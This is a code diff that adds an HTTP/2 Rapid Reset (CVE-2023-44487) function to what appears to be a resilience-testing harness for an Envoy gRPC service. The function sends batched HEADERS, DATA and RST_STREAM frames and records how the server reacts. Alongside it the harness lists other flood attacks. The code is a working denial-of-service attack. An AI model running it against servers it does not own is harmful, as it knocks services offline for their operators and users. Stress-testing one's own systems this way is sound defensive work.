@@ -295,6 +295,42 @@ async def many_streams(target: Target, p: Params) -> Outcome:
         peer.close()
 
 
+# -- b-reset: calls reset as soon as they are sent (Rapid Reset, CVE-2023-44487) ----------------------------
+
+async def rapid_reset(target: Target, p: Params) -> Outcome:
+    """``p.streams`` calls on one connection, each HEADERS, a whole routing request (Envoy's request headers and
+    chat body messages) and RST_STREAM CANCEL at once, in batches of 1,000 for at most ``p.seconds``. Each call
+    costs the server a parse and a routing and the attacker three frames; a reset stream no longer counts against
+    SETTINGS_MAX_CONCURRENT_STREAMS, so that limit never stops it."""
+    from bench.attacks_probe import extproc_messages
+
+    request, _ = extproc_messages()
+    call = b"".join(grpc_message(message.SerializeToString()) for message in request)  # type: ignore[attr-defined]
+    cancel = struct.pack(">L", 8)
+    peer = await H2Peer.open(target)
+    try:
+        await peer.wait_settings()
+        block = grpc_headers()
+        sent, deadline = 0, time.monotonic() + p.seconds
+        while sent < p.streams and not peer.closed and time.monotonic() < deadline:
+            batch = range(sent, min(p.streams, sent + 1000))
+            peer.send(b"".join(frame(HEADERS, END_HEADERS, 1 + 2 * i, block) + frame(DATA, 0, 1 + 2 * i, call)
+                               + frame(RST, 0, 1 + 2 * i, cancel) for i in batch))
+            if not await peer.drain(deadline - time.monotonic()):
+                break
+            sent = batch.stop
+        await asyncio.sleep(p.hold)
+        return Outcome({"calls sent and reset": f"{sent:,}", "answered (response HEADERS)": f"{peer.headers_in:,}",
+                        "server": peer.reaction()})
+    finally:
+        peer.close()
+
+
+def grpc_message(payload: bytes) -> bytes:
+    """A gRPC length-prefixed message, uncompressed."""
+    return b"\0" + struct.pack(">L", len(payload)) + payload
+
+
 # -- c: PING and SETTINGS floods, never reading -------------------------------------------------------------
 
 async def ping_flood(target: Target, p: Params) -> Outcome:
@@ -414,6 +450,7 @@ async def idle_after_preface(target: Target, p: Params) -> Outcome:
 ATTACKS = {
     "a": big_messages,
     "b": many_streams,
+    "b-reset": rapid_reset,
     "c-ping": ping_flood,
     "c-settings": settings_flood,
     "d-continuation": continuation_flood,
